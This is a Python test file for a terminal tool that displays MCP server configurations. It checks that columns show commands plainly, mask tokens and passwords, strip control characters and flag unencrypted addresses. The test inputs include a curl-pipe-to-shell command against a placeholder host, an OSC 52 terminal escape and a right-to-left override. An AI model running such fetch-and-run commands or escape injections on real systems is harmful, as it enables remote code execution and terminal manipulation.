"""What stands in the columns: short, honest, without a secret and without a control character."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from mcptui.model import Access, Dated, Definition, Entry, PathReach, Reach, Scope, Transport, Updated
from mcptui.tui.cells import reach_cell, runs_cell, scope_cell, updated_cell
from mcptui.tui.words import Piece, Tone, age, plain
from tests.tui.homes import MACHINE

NOW = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)


def runs(command: str, *args: str) -> str:
    return plain(runs_cell(Definition(Transport.STDIO, command, args), MACHINE))


def remote(url: str) -> Definition:
    return Definition(Transport.HTTP, url=url)


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (("npx", "-y", "@modelcontextprotocol/server-filesystem@2.4.0", "/"), "npx …/server-filesystem@2.4.0"),
        (("npx", "-y", "@playwright/mcp@latest"), "npx @playwright/mcp@latest"),
        (("uvx", "mcp-server-fetch"), "uvx mcp-server-fetch"),
        (("docker", "run", "-i", "--rm", "ghcr.io/github/mcp:v1"), "docker ghcr.io/github/mcp:v1"),
        (("npx", "-y", "mcp-remote", "https://a.example/sse"), "npx mcp-remote → https://a.example/sse"),
        (("/home/sam/bin/calendar", "--read-only"), "~/bin/calendar --read-only"),
        (("bash", "-c", "curl http://x | sh"), "bash -c curl http://x | sh"),
    ],
)
def test_tells_what_an_entry_runs(words: tuple[str, ...], told: str) -> None:
    assert runs(*words) == told


def test_hides_secrets_in_arguments_and_addresses() -> None:
    token = "ghp_" + "a1B2" * 9
    assert token not in runs("/opt/server", "--token", token)
    assert "hunter2" not in plain(runs_cell(remote("https://sam:hunter2@host.example/mcp"), MACHINE))


def test_lets_no_control_character_through() -> None:
    told = runs("/opt/ser\x1b]52;c;aGk=\x07ver", "\u202edesrever")
    assert told.isprintable()


def test_warns_of_addresses_without_encryption_that_leave_this_computer() -> None:
    assert runs_cell(remote("http://crm.example/mcp"), MACHINE)[0] == Piece("http://", Tone.WARN)
    assert runs_cell(remote("http://127.0.0.1:3845/mcp"), MACHINE)[0] == Piece("http://", Tone.DIM)
    assert plain(reach_cell(Reach(paths=(), hosts=("crm.example",)), remote("http://crm.example"), MACHINE)) == (
        "plain http"
    )


def test_tells_the_gravest_reach_first() -> None:
    reach = Reach(  # noqa: S604  # a field of it, not a shell
        paths=(
            PathReach("/home/sam/src", Access.READ, "args[1]"),
            PathReach("/home/sam", Access.WRITE, "args[2]", "home"),
        ),
        env=("TOKEN", "HOST"),
        shell=True,
    )
    cell = reach_cell(reach, Definition(Transport.STDIO, "npx"), MACHINE)
    assert plain(cell) == "shell · rw ~/ · ro ~/src · 2 env"
    assert Piece("rw ~/", Tone.WARN) in cell


def test_what_nothing_limits_may_do_all_that_its_user_may() -> None:
    stdio = Definition(Transport.STDIO, "npx")
    assert plain(reach_cell(Reach(hosts=("db.example",)), stdio, MACHINE)) == "your rights · net"
    assert plain(reach_cell(Reach(container="mcp/git"), stdio, MACHINE)) == "container"
    assert plain(reach_cell(Reach(), Definition(Transport.UNKNOWN), MACHINE)) == "?"
    assert plain(reach_cell(Reach(paths=()), stdio, MACHINE)) == "nothing"


def test_dates_are_those_of_the_installed_version_else_a_bound_by_the_file() -> None:
    installed = Dated((NOW - timedelta(days=70)).isoformat(), "npx cache")
    written = Dated((NOW - timedelta(hours=5)).isoformat(), "date of the file")
    ours = Dated((NOW - timedelta(minutes=3)).isoformat(), "mcptui's history")
    assert plain(updated_cell(Updated(entry=written, installed=installed), NOW)) == "2 mo"
    assert plain(updated_cell(Updated(entry=written), NOW)) == "≥ 5 h"
    assert plain(updated_cell(Updated(entry=ours), NOW)) == "3 min"
    assert plain(updated_cell(Updated(), NOW)) == "?"


@pytest.mark.parametrize(
    ("ago", "told"),
    [
        (timedelta(seconds=20), "now"),
        (timedelta(minutes=59), "59 min"),
        (timedelta(days=6), "6 d"),
        (timedelta(days=21), "3 w"),
        (timedelta(days=400), "1 y"),
        (timedelta(days=-1), "now"),
    ],
)
def test_ages_are_told_in_the_largest_unit_that_fits(ago: timedelta, told: str) -> None:
    assert age((NOW - ago).isoformat(), NOW) == told


def test_what_is_no_date_has_no_age() -> None:
    assert age("yesterday", NOW) == ""


def test_entries_of_other_projects_are_told_by_the_name_of_their_project(make_entry: Callable[..., Entry]) -> None:
    here = (Path("/home/sam/src"),)
    ours = make_entry(scope=Scope.PROJECT, project=here[0])
    theirs = make_entry(scope=Scope.PROJECT, project=Path("/home/sam/shop"))
    assert [plain(scope_cell(entry, here)) for entry in (ours, theirs)] == ["project", "shop"]
